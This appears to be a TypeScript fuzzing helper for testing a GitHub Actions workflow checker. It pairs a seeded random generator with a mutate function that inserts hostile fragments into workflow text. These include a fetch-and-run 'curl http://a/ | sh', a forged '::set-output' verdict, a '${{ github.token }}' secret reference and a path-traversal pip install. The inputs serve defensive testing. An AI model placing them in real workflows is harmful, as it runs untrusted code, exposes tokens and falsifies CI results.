/** A small generator of random numbers that a seed repeats (mulberry32, public domain). */
export function createRandom(seed: number): (below: number) => number {
  let state = seed >>> 0;
  return (below) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) % below;
  };
}

/** What an attacker, an editor or a bad merge puts into a workflow. */
const INSERTS: readonly string[] = [
  "::set-output name=verdict::pass",
  "##[add-mask]a",
  "\n::stop-commands::x\n",
  "\r",
  "\u2028::error::x",
  "*alias",
  "&anchor ",
  "<<: ",
  "? ",
  "- ",
  "{",
  "[",
  "]",
  "}",
  '"',
  "'",
  "|\n",
  ">-\n",
  "\t",
  "\u0000",
  "\ud800",
  "\u202e",
  "@",
  "${{ github.token }}",
  "${{",
  "uses: ",
  "docker://",
  "@sha256:",
  "# sluice: ignore[unpinned-uses] x",
  "!!binary ",
  "---\n",
  "%YAML 1.2\n",
  "curl http://a/ | sh",
  "pip install -r ../../x",
];

/** `text` with one to four random changes: cuts, copies, swaps and hostile insertions. */
export function mutate(text: string, random: (below: number) => number): string {
  let result = text;
  for (let left = 1 + random(4); left > 0; left--) {
    const at = random(result.length + 1);
    const until = Math.min(result.length, at + 1 + random(40));
    const insert = INSERTS[random(INSERTS.length)] ?? "";
    const choices = [
      () => result.slice(0, at) + result.slice(until),
      () => result.slice(0, at) + insert + result.slice(at),
      () => result.slice(0, at) + result.slice(at, until) + result.slice(at),
      () => result.slice(0, at) + insert + result.slice(until),
    ];
    result = (choices[random(choices.length)] ?? (() => result))();
  }
  return result;
}
